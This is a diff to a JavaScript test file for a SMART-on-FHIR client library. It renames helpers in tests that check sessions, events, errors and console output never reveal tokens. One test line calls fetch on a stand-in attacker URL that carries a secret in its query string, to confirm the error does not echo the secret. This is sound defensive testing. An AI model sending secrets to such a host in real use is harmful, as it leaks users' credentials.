@@ -7,22 +7,22 @@ import { createSmartClient } from 'smart-launch';
 import { isRevealing, SECRET, startEhr } from './ehr.mjs';
 import { callbackOf, signIn } from './sign-in.mjs';
 
-/** All ways to show a value: none may show a secret. */
-function assertSilent(value, description) {
-  const shown = [
+/** Asserts that a value, in whatever way it is shown, shows no secret. */
+function assertNoSecret(value, description) {
+  const text = [
     inspect(value, { depth: Infinity }),
     inspect(value, { depth: Infinity, showHidden: true, getters: false }),
     JSON.stringify(value),
     String(value),
     JSON.stringify({ ...value }),
     Object.values(value ?? {}).join(),
-    JSON.stringify(structuredClonable(value)),
+    JSON.stringify(structuredCloneOrNull(value)),
     value?.stack,
   ].join('\n');
-  assert.ok(!isRevealing(shown), `${description}: ${shown}`);
+  assert.ok(!isRevealing(text), `${description}: ${text}`);
 }
 
-function structuredClonable(value) {
+function structuredCloneOrNull(value) {
   try {
     return structuredClone(value);
   } catch {
@@ -53,10 +53,10 @@ test('session, state and client show no token', async (t) => {
   const ehr = await startEhr(t, { idToken: {} });
   const client = createSmartClient(ehr.options());
   const sessions = [await signIn(client), await client.refresh()];
-  for (const session of sessions) assertSilent(session, 'session');
-  assertSilent(client.getState(), 'state');
-  assertSilent(client, 'client');
-  assertSilent(await client.discover(), 'metadata');
+  for (const session of sessions) assertNoSecret(session, 'session');
+  assertNoSecret(client.getState(), 'state');
+  assertNoSecret(client, 'client');
+  assertNoSecret(await client.discover(), 'metadata');
 });
 
 test('events show no secret', async (t) => {
@@ -74,22 +74,22 @@ test('events show no secret', async (t) => {
   ehr.answer('/revoke', { status: 503 });
   await client.logout();
   assert.ok(details.length >= 10);
-  for (const detail of details) assertSilent(detail, 'event');
+  for (const detail of details) assertNoSecret(detail, 'event');
 });
 
 test('errors show no secret', async (t) => {
   const ehr = await startEhr(t, { idToken: {} });
   const client = createSmartClient(ehr.options({ timeoutSeconds: 1 }));
   const errors = [];
-  const fails = async (call) =>
+  const recordError = async (call) =>
     errors.push(
       await call.then(
-        () => assert.fail('it worked'),
+        () => assert.fail('the call succeeds'),
         (error) => error,
       ),
     );
   const tokens = ehr.tokenResponse();
-  for (const answer of [
+  for (const response of [
     { status: 400, json: { error: 'invalid_grant', ...tokens } },
     { status: 500, body: JSON.stringify(tokens) },
     { json: { ...tokens, token_type: `${SECRET}-type` } },
@@ -105,8 +105,8 @@ test('errors show no secret', async (t) => {
     { json: { ...tokens, id_token: ehr.idToken({}, { header: { kid: SECRET } }) } },
     { json: { ...tokens, id_token: `${tokens.id_token}A` } },
   ]) {
-    ehr.answer('/token', answer);
-    await fails(signIn(client));
+    ehr.answer('/token', response);
+    await recordError(signIn(client));
   }
   const callback = callbackOf(await client.authorize({ navigate: false }));
   for (const invalidCallback of [
@@ -117,26 +117,26 @@ test('errors show no secret', async (t) => {
     `code=${SECRET}`,
     SECRET,
   ]) {
-    await fails(client.ready({ callback: invalidCallback }));
+    await recordError(client.ready({ callback: invalidCallback }));
   }
   ehr.grant({ expires_in: 0 });
   await signIn(client);
   ehr.answer('/token', { status: 401, json: { error: 'invalid_client' } });
-  await fails(client.getAccessToken());
-  await fails(client.fetch(`https://evil.example/?secret=${SECRET}`));
-  await fails(createSmartClient(ehr.options({ clientId: '', redirectUri: `https://a:${SECRET}@b.example` })).ready());
-  await fails(client.authorize({ navigate: false, launch: `${SECRET}\n` }));
+  await recordError(client.getAccessToken());
+  await recordError(client.fetch(`https://evil.example/?secret=${SECRET}`));
+  await recordError(createSmartClient(ehr.options({ clientId: '', redirectUri: `https://a:${SECRET}@b.example` })).ready());
+  await recordError(client.authorize({ navigate: false, launch: `${SECRET}\n` }));
   assert.equal(errors.length, 24);
   for (const error of errors) {
     assert.equal(error.name, 'SmartError');
-    assertSilent(error, error.code);
+    assertNoSecret(error, error.code);
   }
 });
 
 test('nothing is written to the console', async (t) => {
-  const written = [];
+  const consoleCalls = [];
   for (const method of ['debug', 'error', 'info', 'log', 'trace', 'warn']) {
-    t.mock.method(console, method, (...values) => written.push(values));
+    t.mock.method(console, method, (...values) => consoleCalls.push(values));
   }
   const ehr = await startEhr(t, { idToken: {}, configuration: { grant_types_supported: 7 } });
   const client = createSmartClient(ehr.options());
@@ -146,7 +146,7 @@ test('nothing is written to the console', async (t) => {
   ehr.answer('/token', { status: 500 });
   await assert.rejects(client.refresh());
   await client.logout();
-  assert.deepEqual(written, []);
+  assert.deepEqual(consoleCalls, []);
 });
 
 test('secrets are in the body of requests, never in a URL', async (t) => {
@@ -160,8 +160,8 @@ test('secrets are in the body of requests, never in a URL', async (t) => {
     assert.ok(!isRevealing(url), url);
     assert.equal(headers.referer, undefined);
     assert.equal(headers.cookie, undefined);
-    const { authorization, ...others } = headers;
-    assert.ok(!isRevealing(JSON.stringify(others)));
+    const { authorization, ...otherHeaders } = headers;
+    assert.ok(!isRevealing(JSON.stringify(otherHeaders)));
     assert.equal(authorization !== undefined, url.startsWith('/fhir/Patient'));
   }
 });
@@ -178,8 +178,8 @@ for (const isSignedOut of [false, true]) {
     const error = await client.request('Patient').catch((failure) => failure);
     assert.equal(error.code, isSignedOut ? 'signed_out' : 'http_status');
     assert.equal(error.body === undefined, isSignedOut);
-    assertSilent(error, 'error');
-    if (error.body) assertSilent(error.body, 'body');
+    assertNoSecret(error, 'error');
+    if (error.body) assertNoSecret(error.body, 'body');
   });
 }
 
@@ -190,5 +190,5 @@ test('error for a response that is not JSON does not contain a token in its cont
   ehr.answer('/fhir/Patient', { headers: { 'content-type': `text/${tokenResponse.access_token}` }, body: 'text' });
   const error = await client.request('Patient').catch((failure) => failure);
   assert.equal(error.code, 'json_invalid');
-  assertSilent(error, 'error');
+  assertNoSecret(error, 'error');
 });
